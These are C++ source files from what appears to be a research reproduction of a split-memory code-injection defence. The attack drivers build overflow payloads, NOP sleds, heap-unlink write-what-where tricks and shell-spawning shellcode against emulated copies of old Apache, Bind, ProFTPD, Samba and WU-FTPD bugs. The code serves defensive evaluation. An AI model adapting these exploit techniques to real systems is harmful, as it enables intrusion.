  //   *(bk+4) = fd  -> writes &stage1 over handle_glob's return address
  const u32 retslot = glob_fp + 4;
  std::string overflow(132, 'B');
  append_le32(overflow, 0x41414140);  // fake size: even => "free"
  append_le32(overflow, sc_addr);     // fd
  append_le32(overflow, retslot - 4); // bk
  overflow.resize(160, 'C');
  s.chan->host_write(
      std::span<const u8>(reinterpret_cast<const u8*>(overflow.data()),
                          overflow.size()));
  s.k->run(20'000'000);

  // Stage 1 signals with the marker, then blocks waiting for stage 2.
  const std::string sig = s.chan->host_read_string();
  if (sig.find("w00t") != std::string::npos) {
    const auto stage2 = interactive_shell_shellcode(pattern + 768,
                                                    /*rounds=*/8);
    std::vector<u8> padded(512, 0x90);
    if (stage2.size() > padded.size()) {
      throw std::logic_error("stage 2 exceeds the read window");
    }
    std::copy(stage2.begin(), stage2.end(), padded.begin());
    s.chan->host_write(padded);
    s.k->run(20'000'000);
  }

  finish(res, s, opts);
  return res;
}

}  // namespace

const char* to_string(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "apache-openssl";
    case Exploit::kBindTsig:
      return "bind-tsig";
    case Exploit::kProftpd:
      return "proftpd";
    case Exploit::kSamba:
      return "samba";
    case Exploit::kWuFtpd:
      return "wu-ftpd";
  }
  return "?";
}

const char* software(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "Apache 1.3.20 + OpenSSL 0.9.6d";
    case Exploit::kBindTsig:
      return "Bind 8.2.2_P5";
    case Exploit::kProftpd:
      return "ProFTPD 1.2.7";
    case Exploit::kSamba:
      return "Samba 2.2.1a";
    case Exploit::kWuFtpd:
      return "WU-FTPD 2.6.1";
  }
  return "?";
}

const char* exploit_name(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "openssl-too-open (Solar Eclipse)";
    case Exploit::kBindTsig:
      return "lsd-pl.net tsig (Lion worm)";
    case Exploit::kProftpd:
      return "proftpd-not-pro-enough (Solar Eclipse)";
    case Exploit::kSamba:
      return "trans2open (eSDee)";
    case Exploit::kWuFtpd:
      return "7350wurm (TESO)";
  }
  return "?";
}

const char* injects_to(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
    case Exploit::kProftpd:
    case Exploit::kWuFtpd:
      return "heap";
    case Exploit::kBindTsig:
    case Exploit::kSamba:
      return "stack";
  }
  return "?";
}

std::string victim_source(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return kApacheSource;
    case Exploit::kBindTsig:
      return kBindSource;
    case Exploit::kProftpd:
      return kProftpdSource;
    case Exploit::kSamba:
      return samba_source(false);
    case Exploit::kWuFtpd:
      return kWuftpdSource;
  }
  return "";
}

AttackResult run_attack(Exploit e, core::ProtectionMode mode,
                        const AttackOptions& opts) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return attack_apache(mode, opts);
    case Exploit::kBindTsig:
      return attack_bind(mode, opts);
    case Exploit::kProftpd:
      return attack_proftpd(mode, opts);
    case Exploit::kSamba:
      return attack_samba(mode, opts);
    case Exploit::kWuFtpd:
      return attack_wuftpd(mode, opts);
  }
  throw std::invalid_argument("unknown exploit");
}

}  // namespace sm::attacks::realworld
