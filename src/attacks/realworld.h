// The paper's five real-world exploit scenarios (§6.1.2, Table 2), rebuilt
// as guest server programs carrying the same bug classes and attacked by
// drivers that follow the published exploits' playbooks:
//
//  1. Apache 1.3.20 + OpenSSL 0.9.6d  (openssl-too-open, Solar Eclipse):
//     heap overflow of the client-master-key buffer into an adjacent
//     session struct's handler pointer, plus an SSL-handshake info leak
//     revealing the heap address of the attacker-controlled request buffer.
//  2. Bind 8.2.2_P5 (lsd-pl.net TSIG, the Lion worm's vector): an
//     information-leak reply reveals a stack buffer address, then a stack
//     overflow of the TSIG parser clobbers the return address.
//  3. ProFTPD 1.2.7 (proftpd-not-pro-enough, Solar Eclipse): upload a file,
//     switch to ASCII mode, download it — the \n -> \r\n translation has no
//     bounds check and overflows a heap transfer buffer into the session's
//     post-transfer callback.
//  4. Samba 2.2.1a (eSDee's call_trans2open): a plain stack overflow, brute
//     forced against the kernel's slight stack randomization from a good
//     "insider" first guess (§6.1.2: the exploit was "helped").
//  5. WU-FTPD 2.6.1 (7350wurm, TESO): attacker-controlled heap chunk is
//     free()d with a crafted fake next-chunk header; the allocator's
//     unlink macro performs a write-what-where that redirects a saved
//     return address to two-stage shellcode (stage 1 signals the attacker
//     and pulls stage 2 — an interactive shell — over the wire).
#pragma once

#include <string>
#include <vector>

#include "core/split_engine.h"
#include "kernel/process.h"

namespace sm::attacks::realworld {

using arch::u32;

enum class Exploit { kApacheOpenSsl, kBindTsig, kProftpd, kSamba, kWuFtpd };
inline constexpr Exploit kAllExploits[] = {
    Exploit::kApacheOpenSsl, Exploit::kBindTsig, Exploit::kProftpd,
    Exploit::kSamba, Exploit::kWuFtpd};

const char* to_string(Exploit e);
const char* software(Exploit e);      // "Apache 1.3.20 + OpenSSL 0.9.6d"
const char* exploit_name(Exploit e);  // "openssl-too-open"
const char* injects_to(Exploit e);    // segment the shellcode lands in

struct AttackOptions {
  core::ResponseMode response = core::ResponseMode::kBreak;
  bool attach_sebek = false;
  // Commands "typed" into the shell after a successful compromise
  // (observe-mode honeypot sessions, Fig. 5b/5d).
  std::vector<std::string> shell_commands;
  // Brute-force budget for the samba attack.
  int max_attempts = 64;
};

struct AttackResult {
  Exploit exploit{};
  bool vulnerability_triggered = false;  // overflow/corruption happened
  bool shell_spawned = false;
  bool detected = false;
  int attempts = 1;  // samba brute force
  kernel::ExitKind victim_exit = kernel::ExitKind::kRunning;
  std::string detail;
  std::string shell_transcript;  // attacker-visible shell I/O
  std::string sebek_log;
  std::string forensic_dump;     // disassembly recorded by forensics mode

  bool foiled() const { return !shell_spawned; }
};

AttackResult run_attack(Exploit e, core::ProtectionMode mode,
                        const AttackOptions& opts = {});

// Victim program assembly (exposed for tests).
std::string victim_source(Exploit e);

}  // namespace sm::attacks::realworld
