#include "attacks/shellcode.h"

#include <stdexcept>

#include "kernel/syscall_defs.h"

namespace sm::attacks {

using arch::Op;

namespace {
u8 op(Op o) { return static_cast<u8>(o); }
}  // namespace

ShellcodeBuilder& ShellcodeBuilder::nop_sled(std::size_t n) {
  bytes_.insert(bytes_.end(), n, op(Op::kNop));
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::movi(u8 reg, u32 imm) {
  bytes_.push_back(op(Op::kMovi));
  bytes_.push_back(reg);
  return word(imm);
}

ShellcodeBuilder& ShellcodeBuilder::mov(u8 rd, u8 rs) {
  bytes_.push_back(op(Op::kMov));
  bytes_.push_back(rd);
  bytes_.push_back(rs);
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::addi(u8 reg, u32 imm) {
  bytes_.push_back(op(Op::kAddi));
  bytes_.push_back(reg);
  return word(imm);
}

ShellcodeBuilder& ShellcodeBuilder::cmpi(u8 reg, u32 imm) {
  bytes_.push_back(op(Op::kCmpi));
  bytes_.push_back(reg);
  return word(imm);
}

ShellcodeBuilder& ShellcodeBuilder::jz(u32 addr) {
  bytes_.push_back(op(Op::kJz));
  return word(addr);
}

ShellcodeBuilder& ShellcodeBuilder::jnz(u32 addr) {
  bytes_.push_back(op(Op::kJnz));
  return word(addr);
}

ShellcodeBuilder& ShellcodeBuilder::jmp(u32 addr) {
  bytes_.push_back(op(Op::kJmp));
  return word(addr);
}

ShellcodeBuilder& ShellcodeBuilder::push(u8 reg) {
  bytes_.push_back(op(Op::kPush));
  bytes_.push_back(reg);
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::pop(u8 reg) {
  bytes_.push_back(op(Op::kPop));
  bytes_.push_back(reg);
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::syscall() {
  bytes_.push_back(op(Op::kSyscall));
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::raw(std::span<const u8> bytes) {
  bytes_.insert(bytes_.end(), bytes.begin(), bytes.end());
  return *this;
}

ShellcodeBuilder& ShellcodeBuilder::word(u32 v) {
  for (int i = 0; i < 4; ++i) bytes_.push_back(static_cast<u8>(v >> (8 * i)));
  return *this;
}

std::vector<u8> spawn_shell_shellcode() {
  return ShellcodeBuilder{}
      .movi(0, kernel::kSysSpawnShell)
      .syscall()
      .movi(0, kernel::kSysExit)
      .movi(1, 0)
      .syscall()
      .build();
}

std::vector<u8> interactive_shell_shellcode(u32 scratch, int rounds) {
  // spawn_shell() -> r5 = shell fd; then read/echo rounds, unrolled so the
  // payload stays position independent.
  ShellcodeBuilder b;
  b.movi(0, kernel::kSysSpawnShell).syscall();
  b.mov(5, 0);  // shell fd
  for (int round = 0; round < rounds; ++round) {
    b.movi(0, kernel::kSysRead)
        .mov(1, 5)
        .movi(2, scratch)
        .movi(3, 64)
        .syscall();        // r0 = n
    b.mov(3, 0);           // echo n bytes
    b.movi(0, kernel::kSysWrite).mov(1, 5).movi(2, scratch).syscall();
  }
  b.movi(0, kernel::kSysExit).movi(1, 0).syscall();
  return b.build();
}

std::vector<u8> exit0_shellcode() {
  return ShellcodeBuilder{}
      .movi(0, kernel::kSysExit)
      .movi(1, 0)
      .syscall()
      .build();
}

namespace {
u32 pick_avoiding(u32 base, u32 range, std::initializer_list<u8> bad,
                  const char* what) {
  for (u32 addr = base + 1; addr < base + range; ++addr) {
    bool ok = true;
    for (int i = 0; i < 4 && ok; ++i) {
      const u8 b = static_cast<u8>(addr >> (8 * i));
      for (u8 x : bad) {
        if (b == x) {
          ok = false;
          break;
        }
      }
    }
    if (ok) return addr;
  }
  throw std::runtime_error(what);
}
}  // namespace

u32 pick_string_safe_address(u32 base, u32 range) {
  return pick_avoiding(base, range, {0x00, 0x0A},
                       "no string-safe address in range");
}

u32 pick_ascii_safe_address(u32 base, u32 range) {
  return pick_avoiding(base, range, {0x0A, 0x0D},
                       "no ascii-safe address in range");
}

}  // namespace sm::attacks
