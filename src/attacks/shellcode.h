// Shellcode builder: emits raw instruction bytes for injection payloads,
// the way real exploits carry pre-assembled machine code.
#pragma once

#include <cstddef>
#include <span>
#include <vector>

#include "arch/isa.h"
#include "arch/types.h"

namespace sm::attacks {

using arch::u32;
using arch::u8;

class ShellcodeBuilder {
 public:
  ShellcodeBuilder& nop_sled(std::size_t n);
  ShellcodeBuilder& movi(u8 reg, u32 imm);
  ShellcodeBuilder& mov(u8 rd, u8 rs);
  ShellcodeBuilder& addi(u8 reg, u32 imm);
  ShellcodeBuilder& cmpi(u8 reg, u32 imm);
  ShellcodeBuilder& jz(u32 addr);
  ShellcodeBuilder& jnz(u32 addr);
  ShellcodeBuilder& jmp(u32 addr);
  ShellcodeBuilder& push(u8 reg);
  ShellcodeBuilder& pop(u8 reg);
  ShellcodeBuilder& syscall();
  ShellcodeBuilder& raw(std::span<const u8> bytes);
  ShellcodeBuilder& word(u32 v);  // literal 32-bit data

  std::size_t size() const { return bytes_.size(); }
  std::vector<u8> build() const { return bytes_; }

 private:
  std::vector<u8> bytes_;
};

// spawn_shell(); exit(0) — the minimal proof-of-compromise payload.
std::vector<u8> spawn_shell_shellcode();

// spawn_shell(); then `rounds` unrolled { n = read(shell_fd, scratch, 64);
// write(shell_fd, scratch, n) } iterations — a connect-back shell that
// lets the attacker "type commands" (echoed), driving the Sebek log of
// Fig. 5d. `scratch` must be a writable guest address. Unrolled because
// shellcode does not know its own load address (no relative jumps in the
// ISA); ~41 bytes per round.
std::vector<u8> interactive_shell_shellcode(u32 scratch, int rounds = 8);

// exit(0) — the paper's §6.1.3 forensic shellcode demo.
std::vector<u8> exit0_shellcode();

// Picks an address in [base+1, base+range) whose 4 little-endian bytes
// contain no NUL and no '\n' — required for payloads delivered through
// string functions. Throws if none exists.
u32 pick_string_safe_address(u32 base, u32 range);

// Like pick_string_safe_address but only avoids '\n' and '\r': for
// payloads delivered as binary data that pass through an ASCII-mode
// newline translation (the proftpd vector).
u32 pick_ascii_safe_address(u32 base, u32 range);

}  // namespace sm::attacks
