#include "attacks/wilander.h"

#include <cstdio>
#include <stdexcept>

#include "attacks/shellcode.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

namespace sm::attacks::wilander {

namespace {

using arch::u8;

// Overflow distance from the start of the vulnerable buffer to the control
// vector, fixed by the victim's frame layout below.
u32 filler_bytes(Technique t) {
  switch (t) {
    case Technique::kReturnAddress:
      return 76;  // 72-byte frame + saved fp
    case Technique::kOldBasePointer:
      return 72;  // up to the saved fp only
    case Technique::kFuncPtrLocal:
      return 64;  // buf[64] then the pointer at fp-8
    case Technique::kFuncPtrParam:
      return 80;  // 72 + saved fp + return address, then the parameter
    case Technique::kLongjmpLocal:
      return 72;  // buf then jmp_buf.pc at fp-12
    case Technique::kLongjmpParam:
      return 64;  // caller's buf[64] then the caller's jmp_buf.pc
  }
  return 0;
}

std::string carrier_setup(Segment s) {
  switch (s) {
    case Segment::kData:
    case Segment::kBss: {
      return R"(
  movi r2, wl_carrier
  movi r4, carrier_ptr
  store [r4], r2
)";
    }
    case Segment::kHeap:
      return R"(
  movi r1, 1024
  call malloc
  movi r4, carrier_ptr
  store [r4], r0
)";
    case Segment::kStack:
      // Deep below the working stack so ordinary call frames never touch it.
      return R"(
  mov r2, sp
  movi r3, 2048
  sub r2, r3
  movi r4, carrier_ptr
  store [r4], r2
)";
  }
  return "";
}

std::string carrier_storage(Segment s) {
  switch (s) {
    case Segment::kData:
      return ".data\nwl_carrier: .space 1024\n";
    case Segment::kBss:
      return ".bss\nwl_carrier: .space 1024\n";
    default:
      return "";
  }
}

std::string trigger_source(Technique t) {
  switch (t) {
    case Technique::kReturnAddress:
      return R"(
trigger:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy            ; overflows through the saved fp into the ret addr
  mov sp, fp
  pop fp
  ret                    ; pops the attacker's address
)";
    case Technique::kOldBasePointer:
      // The overflow writes the 4-byte fake-frame address over the saved
      // fp; strcpy's NUL terminator then lands on the LOW BYTE of the
      // saved return address. The classic exploit trick: arrange for the
      // victim call's return address to END in 0x00 so the terminator is
      // a no-op. We pad the call site to a 256-byte boundary.
      return R"(
trigger:
  push fp
  mov fp, sp
  jmp bp_call
  .align 256
  .space 251, 0x90
bp_call:
  call bp_victim         ; 5 bytes: the return address ends in 0x00
  mov sp, fp             ; fp was corrupted by the callee's epilogue:
  pop fp                 ; this unwinds into the attacker's fake frame
  ret
bp_victim:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy            ; overwrites ONLY the saved frame pointer
  mov sp, fp
  pop fp                 ; loads the attacker's fake-frame address
  ret                    ; returns normally; the caller unwinds the fake
)";
    case Technique::kFuncPtrLocal:
      return R"(
trigger:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  movi r2, benign
  store [fp-8], r2       ; local function pointer above buf[64]
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy
  load r2, [fp-8]
  callr r2               ; indirect call through the clobbered pointer
  mov sp, fp
  pop fp
  ret
)";
    case Technique::kFuncPtrParam:
      return R"(
trigger:
  push fp
  mov fp, sp
  movi r2, benign
  push r2                ; function pointer passed as a stack parameter
  call fpp_victim
  addi sp, 4
  mov sp, fp
  pop fp
  ret
fpp_victim:
  push fp
  mov fp, sp
  movi r2, 72
  sub sp, r2
  mov r1, fp
  movi r2, 72
  sub r1, r2
  movi r2, staging
  call strcpy            ; overflow reaches the parameter at fp+8
  load r2, [fp+8]
  callr r2
  mov sp, fp
  pop fp
  ret
)";
    case Technique::kLongjmpLocal:
      return R"(
trigger:
  push fp
  mov fp, sp
  movi r2, 84
  sub sp, r2             ; buf at fp-84 (72 bytes), jmp_buf at fp-12
  mov r1, fp
  movi r2, 12
  sub r1, r2
  call setjmp
  cmpi r0, 0
  jnz lj_out
  mov r1, fp
  movi r2, 84
  sub r1, r2
  movi r2, staging
  call strcpy            ; clobbers jmp_buf.pc
  mov r1, fp
  movi r2, 12
  sub r1, r2
  movi r2, 1
  call longjmp           ; jumps to the attacker's address
lj_out:
  mov sp, fp
  pop fp
  ret
)";
    case Technique::kLongjmpParam:
      return R"(
trigger:
  push fp
  mov fp, sp
  movi r2, 84
  sub sp, r2             ; buf at fp-76 (64 bytes), jmp_buf at fp-12
  mov r1, fp
  movi r2, 12
  sub r1, r2
  call setjmp
  cmpi r0, 0
  jnz ljp_out
  mov r1, fp
  movi r2, 76
  sub r1, r2
  call ljp_copy          ; callee overflows the buffer we handed it
  mov r1, fp
  movi r2, 12
  sub r1, r2
  movi r2, 1
  call longjmp
ljp_out:
  mov sp, fp
  pop fp
  ret
ljp_copy:
  movi r2, staging
  call strcpy
  ret
)";
  }
  return "";
}

}  // namespace

const char* to_string(Technique t) {
  switch (t) {
    case Technique::kReturnAddress:
      return "ret-addr";
    case Technique::kOldBasePointer:
      return "base-ptr";
    case Technique::kFuncPtrLocal:
      return "funcptr-local";
    case Technique::kFuncPtrParam:
      return "funcptr-param";
    case Technique::kLongjmpLocal:
      return "longjmp-local";
    case Technique::kLongjmpParam:
      return "longjmp-param";
  }
  return "?";
}

const char* to_string(Segment s) {
  switch (s) {
    case Segment::kStack:
      return "stack";
    case Segment::kHeap:
      return "heap";
    case Segment::kBss:
      return "bss";
    case Segment::kData:
      return "data";
  }
  return "?";
}

bool applicable(Technique t, Segment s) {
  if (t == Technique::kOldBasePointer && s != Segment::kStack) return false;
  if (t == Technique::kLongjmpParam && s == Segment::kData) return false;
  return true;
}

std::string victim_source(Technique t, Segment s) {
  std::string src = R"(
_start:
  call malloc_init
)";
  src += carrier_setup(s);
  src += R"(
  ; leak the carrier address (the benchmark runs with full knowledge of
  ; target addresses, like Wilander's in-process testbed)
  movi r4, carrier_ptr
  load r2, [r4]
  movi r1, FD_NET
  call put_hex_fd
  ; stage 1: injected code lands in the chosen segment
  movi r4, carrier_ptr
  load r2, [r4]
  movi r1, FD_NET
  movi r3, 1024
  call read_n
  ; stage 2: the overflow string
  movi r1, FD_NET
  movi r2, staging
  movi r3, 1200
  call read_line
  call trigger
  movi r1, msg_no
  call print
  movi r0, SYS_EXIT
  movi r1, 1
  syscall

benign:
  ret
)";
  src += trigger_source(t);
  src += R"(
.data
msg_no: .asciz "no hijack\n"
carrier_ptr: .word 0
staging: .space 1216
)";
  src += carrier_storage(s);
  return src;
}

CaseResult run_case(Technique t, Segment s, core::ProtectionMode mode) {
  CaseResult res;
  res.technique = t;
  res.segment = s;
  res.applicable = applicable(t, s);
  if (!res.applicable) {
    res.detail = "N/A";
    return res;
  }

  kernel::Kernel k;
  k.set_engine(core::make_engine(mode));
  const auto program = assembler::assemble(guest::program(victim_source(t, s)));
  image::BuildOptions opts;
  opts.name = "wilander";
  k.register_image(image::build_image(program, opts));
  const kernel::Pid pid = k.spawn("wilander");
  auto chan = k.attach_channel(pid);

  // Run until the victim leaks the carrier address and blocks on read.
  k.run(5'000'000);
  const std::string leak = chan->host_read_string();
  if (leak.size() < 11 || leak.substr(0, 2) != "0x") {
    res.detail = "victim did not leak the carrier address";
    return res;
  }
  const u32 carrier = static_cast<u32>(std::stoul(leak.substr(2, 8), nullptr, 16));

  // Craft stage 1 (shellcode in the carrier) and the jump target.
  std::vector<u8> stage(1024, 0);
  u32 target = 0;
  if (t == Technique::kOldBasePointer) {
    // Fake frame [fake_fp][fake_ret] followed by the NOP sled + shellcode.
    const u32 frame_addr = pick_string_safe_address(carrier, 1024 - 400);
    const u32 frame_off = frame_addr - carrier;
    const u32 sled_off = frame_off + 8;
    const u32 sled_len = 320;
    target = pick_string_safe_address(carrier + sled_off, sled_len - 8);
    ShellcodeBuilder fake;
    fake.word(0x41414141).word(target);
    const auto frame_bytes = fake.build();
    std::copy(frame_bytes.begin(), frame_bytes.end(),
              stage.begin() + frame_off);
    ShellcodeBuilder sc;
    sc.nop_sled(sled_len);
    const auto payload = spawn_shell_shellcode();
    auto sled = sc.build();
    std::copy(sled.begin(), sled.end(), stage.begin() + sled_off);
    std::copy(payload.begin(), payload.end(),
              stage.begin() + sled_off + sled_len);
    target = frame_addr;  // overflow value = fake frame address
  } else {
    const u32 sled_len = 600;
    ShellcodeBuilder sc;
    sc.nop_sled(sled_len).raw(spawn_shell_shellcode());
    const auto bytes = sc.build();
    std::copy(bytes.begin(), bytes.end(), stage.begin());
    target = pick_string_safe_address(carrier, sled_len - 8);
  }
  chan->host_write(stage);

  // Stage 2: NUL-free filler + the 4-byte overwrite value + newline.
  std::string overflow(filler_bytes(t), 'A');
  for (int i = 0; i < 4; ++i) {
    overflow.push_back(static_cast<char>(target >> (8 * i)));
  }
  overflow.push_back('\n');
  chan->host_write(overflow);

  k.run(20'000'000);

  kernel::Process& p = *k.process(pid);
  res.shell_spawned = p.shell_spawned;
  res.detected = !k.detections().empty();
  res.victim_exit = p.exit_kind;
  if (p.exit_kind == kernel::ExitKind::kRunning) {
    res.detail = "victim still running/blocked";
  } else if (res.shell_spawned) {
    res.detail = "shell spawned";
  } else if (res.detected) {
    res.detail = "injected code execution prevented";
  } else {
    res.detail = p.console.empty() ? "victim died" : p.console;
  }
  return res;
}

std::vector<CaseResult> run_all(core::ProtectionMode mode) {
  std::vector<CaseResult> out;
  for (const Technique t : kAllTechniques) {
    for (const Segment s : kAllSegments) {
      out.push_back(run_case(t, s, mode));
    }
  }
  return out;
}

}  // namespace sm::attacks::wilander
