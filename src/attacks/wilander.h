// The Wilander & Kamkar buffer-overflow benchmark, as adapted by the paper
// (§6.1.1, Table 1): 6 control-flow hijack techniques × 4 code-injection
// segments. Each cell builds a victim guest with that vulnerability, crafts
// the authentic two-stage payload (stage 1: shellcode injected into the
// chosen segment; stage 2: a NUL-free overflow string delivered through an
// unbounded strcpy), runs it under a protection engine, and reports whether
// the attack succeeded or was foiled.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "core/split_engine.h"
#include "kernel/process.h"

namespace sm::attacks::wilander {

using arch::u32;

enum class Technique {
  kReturnAddress,   // overflow to the saved return address
  kOldBasePointer,  // overflow to the saved frame pointer (fake frame)
  kFuncPtrLocal,    // function pointer as a local variable
  kFuncPtrParam,    // function pointer as a parameter
  kLongjmpLocal,    // longjmp buffer as a local variable
  kLongjmpParam,    // longjmp buffer in the caller, reached via a callee
                    // overflow of an adjacent caller buffer
};
inline constexpr Technique kAllTechniques[] = {
    Technique::kReturnAddress, Technique::kOldBasePointer,
    Technique::kFuncPtrLocal,  Technique::kFuncPtrParam,
    Technique::kLongjmpLocal,  Technique::kLongjmpParam,
};

enum class Segment { kStack, kHeap, kBss, kData };
inline constexpr Segment kAllSegments[] = {Segment::kStack, Segment::kHeap,
                                           Segment::kBss, Segment::kData};

const char* to_string(Technique t);
const char* to_string(Segment s);

// Four cells are N/A, mirroring the four benchmark cases that "did not
// successfully execute an attack on our unprotected system" (§6.1.1). The
// conference paper does not name them; we map them to the old-base-pointer
// technique with non-stack code carriers, whose fake stack frame semantics
// do not transfer off the stack, plus longjmp-param/data (see
// EXPERIMENTS.md).
bool applicable(Technique t, Segment s);

struct CaseResult {
  Technique technique;
  Segment segment;
  bool applicable = true;
  bool shell_spawned = false;       // attack succeeded
  bool detected = false;            // protection engine raised a detection
  kernel::ExitKind victim_exit = kernel::ExitKind::kRunning;
  std::string detail;

  // "Foiled" in the Table-1 sense: no shell AND the victim did not execute
  // injected code.
  bool foiled() const { return applicable && !shell_spawned; }
};

// Runs one benchmark cell under the given protection mode.
CaseResult run_case(Technique t, Segment s, core::ProtectionMode mode);

// Runs the whole grid.
std::vector<CaseResult> run_all(core::ProtectionMode mode);

// The victim program's assembly for one cell (exposed for tests).
std::string victim_source(Technique t, Segment s);

}  // namespace sm::attacks::wilander
