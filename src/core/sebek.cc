#include "core/sebek.h"

#include <sstream>

namespace sm::core {

void SebekLogger::attach(kernel::Kernel& k) {
  k.shell_input_logger = [this, &k](kernel::Process& p,
                                    const std::string& input) {
    if (activate_on_detection_ && k.detections().empty()) return;
    SebekEntry e;
    e.cycles = k.now();
    e.pid = p.pid;
    e.process = p.name;
    e.input = input;
    entries_.push_back(std::move(e));
  };
}

std::string SebekLogger::dump() const {
  std::ostringstream out;
  for (const SebekEntry& e : entries_) {
    std::string printable;
    for (char c : e.input) {
      if (c == '\n') {
        printable += "\\n";
      } else if (c >= 0x20 && c < 0x7F) {
        printable += c;
      } else {
        printable += '.';
      }
    }
    out << "[sebek cycle=" << e.cycles << " pid=" << e.pid << " comm="
        << e.process << "] " << printable << "\n";
  }
  return out.str();
}

}  // namespace sm::core
