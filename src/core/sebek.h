// Sebek-style honeypot keystroke logger (paper §6.1.3, Fig. 5d).
//
// The paper integrates Sebek with observe mode: logging is activated by the
// code-injection detection, after which every command the attacker types
// into the spawned shell is recorded. This class wires the kernel's
// shell-input hook to an in-memory log with the same activation rule.
#pragma once

#include <string>
#include <vector>

#include "kernel/kernel.h"

namespace sm::core {

struct SebekEntry {
  arch::u64 cycles = 0;
  kernel::Pid pid = 0;
  std::string process;
  std::string input;
};

class SebekLogger {
 public:
  // activate_on_detection mirrors the paper's modification: "we modified
  // Sebek to be activated by a buffer overflow event detected by our
  // system" to keep log volume down.
  explicit SebekLogger(bool activate_on_detection = true)
      : activate_on_detection_(activate_on_detection) {}

  // Installs this logger as the kernel's shell-input hook.
  void attach(kernel::Kernel& k);

  const std::vector<SebekEntry>& entries() const { return entries_; }
  std::string dump() const;

 private:
  bool activate_on_detection_;
  std::vector<SebekEntry> entries_;
};

}  // namespace sm::core
