#include "core/split_engine.h"

#include <algorithm>
#include <cstdio>

#include "asm/disassembler.h"

namespace sm::core {

using arch::kPageSize;
using arch::page_floor;
using arch::PageTable;
using arch::Pte;
using arch::vpn_of;
using kernel::ExitKind;
using kernel::GuestMem;
using kernel::SplitPair;
using kernel::View;

namespace {
std::string hex(u32 v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "0x%08x", v);
  return buf;
}
}  // namespace

SplitMemoryEngine::SplitMemoryEngine(SplitPolicy policy, ResponseMode mode)
    : policy_(policy), mode_(mode) {}

std::string SplitMemoryEngine::name() const {
  std::string n = "split-memory(";
  switch (policy_.kind) {
    case SplitPolicy::Kind::kAll:
      n += "all";
      break;
    case SplitPolicy::Kind::kMixedOnly:
      n += "mixed-only+nx";
      break;
    case SplitPolicy::Kind::kFraction:
      n += std::to_string(policy_.fraction_percent) + "%";
      break;
  }
  n += ", ";
  n += to_string(mode_);
  n += ")";
  return n;
}

bool SplitMemoryEngine::should_split(const Vma& vma, u32 vpn) const {
  switch (policy_.kind) {
    case SplitPolicy::Kind::kAll:
      return true;
    case SplitPolicy::Kind::kMixedOnly:
      return vma.mixed();
    case SplitPolicy::Kind::kFraction:
      // Deterministic pseudo-random selection (Knuth multiplicative hash),
      // perturbed by the seed so repeated runs pick different pages.
      return (((vpn ^ (policy_.fraction_seed * 0x9E3779B9u)) * 2654435761u) >>
              16) %
                 100 <
             policy_.fraction_percent;
  }
  return true;
}

void SplitMemoryEngine::materialize(Kernel& k, Process& p, const Vma& vma,
                                    u32 vaddr) {
  const u32 page = page_floor(vaddr);
  const u32 vpn = vpn_of(page);
  arch::PhysicalMemory& pm = k.phys();
  PageTable pt = p.as->pt();

  if (should_split(vma, vpn)) {
    // "two new, side-by-side, physical pages are created and the original
    // page is copied into both of them" (paper §5.1). For pages that can
    // never legitimately execute, the code copy stays zero-filled; zero
    // decodes to an invalid opcode, which is what arms the response modes.
    SplitPair pair;
    pair.data_frame = k.alloc_initial_frame(p, vma, page);
    try {
      pair.code_frame = pm.alloc_frame();
    } catch (const arch::OutOfMemoryError&) {
      // Every split page doubles frame pressure; when the second (code)
      // frame cannot be allocated, degrade gracefully instead of tearing
      // the kernel down: map the page unsplit onto its lone data frame in
      // observe-style locked mode and keep the guest running, unprotected
      // on this one page.
      ++k.stats().split_oom_degradations;
      u32 flags = Pte::kPresent | Pte::kUser;
      if (vma.writable()) flags |= Pte::kWritable;
      pt.set(page, Pte::make(pair.data_frame, flags));
      SM_TRACE(k.trace_sink(), record(trace::EventKind::kDegradeUnsplit, page,
                                      pair.data_frame));
      k.log("[degrade] pid " + std::to_string(p.pid) +
            " out of frames splitting " + hex(page) +
            "; page mapped unsplit (observe-style lock)");
      return;
    }
    if (vma.executable()) {
      // The mutable frame_bytes() view bumps the code frame's generation,
      // invalidating any decode-cache entries keyed to it (the frame is
      // fresh here, but the same rule covers every later re-population).
      std::ranges::copy(pm.frame_bytes(pair.data_frame),
                        pm.frame_bytes(pair.code_frame).begin());
    }
    p.as->register_split(vpn, pair);

    u32 flags = Pte::kPresent | Pte::kSplit;  // restricted: kUser cleared
    if (vma.writable()) flags |= Pte::kWritable;
    pt.set(page, Pte::make(pair.code_frame, flags));
    return;
  }

  // Unsplit page: plain mapping, optionally under W^X/NX (combined mode).
  const u32 frame = k.alloc_initial_frame(p, vma, page);
  u32 flags = Pte::kPresent | Pte::kUser;
  if (vma.writable()) flags |= Pte::kWritable;
  if (policy_.nx_for_unsplit) {
    if (!vma.executable()) {
      flags |= Pte::kNoExec;
    } else {
      flags &= ~Pte::kWritable;  // code pages read-only
    }
  }
  pt.set(page, Pte::make(frame, flags));
}

FaultResolution SplitMemoryEngine::on_protection_fault(
    Kernel& k, Process& p, const arch::PageFaultInfo& pf) {
  PageTable pt = p.as->pt();
  Pte pte = pt.get(pf.addr);
  const u32 vpn = vpn_of(pf.addr);
  const SplitPair* pair = p.as->split_pair(vpn);
  if (!pte.split() || pair == nullptr) {
    return handle_nx_fault(k, p, pf);
  }

  arch::Regs& regs = k.regs_of(p);
  const bool instruction_miss = pf.addr == regs.pc || pf.fetch;

